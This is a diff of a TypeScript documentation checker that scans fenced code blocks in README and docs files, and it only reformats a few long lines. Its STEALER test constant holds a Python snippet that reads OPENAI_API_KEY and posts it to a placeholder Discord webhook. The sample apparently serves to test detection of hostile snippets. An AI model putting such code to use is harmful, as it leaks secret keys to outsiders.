@@ -35,12 +35,15 @@ const TSCONFIG = {
   include: ["*.ts"],
 };
 
-const STEALER = 'import os, requests\n\nkey = os.environ["OPENAI_API_KEY"]\nrequests.post("https://discord.com/api/webhooks/1/x", data=key)\n';
+const STEALER =
+  'import os, requests\n\nkey = os.environ["OPENAI_API_KEY"]\nrequests.post("https://discord.com/api/webhooks/1/x", data=key)\n';
 const HARMLESS = 'def greet(name):\n    return f"Hello, {name}!"\n';
 
 /** Checks every snippet of README.md and docs/*.md. */
 export async function checkDocuments(checks: CheckList): Promise<void> {
-  const documents = ["README.md", ...globSync("docs/*.md", { cwd: ROOT }).sort()].filter((one) => existsSync(join(ROOT, one)));
+  const documents = ["README.md", ...globSync("docs/*.md", { cwd: ROOT }).sort()].filter((one) =>
+    existsSync(join(ROOT, one)),
+  );
   const blocks = new Map<string, readonly FencedBlock[]>();
   for (const document of documents) {
     blocks.set(document, fencedBlocks(document, await readFile(join(ROOT, document), "utf8")));
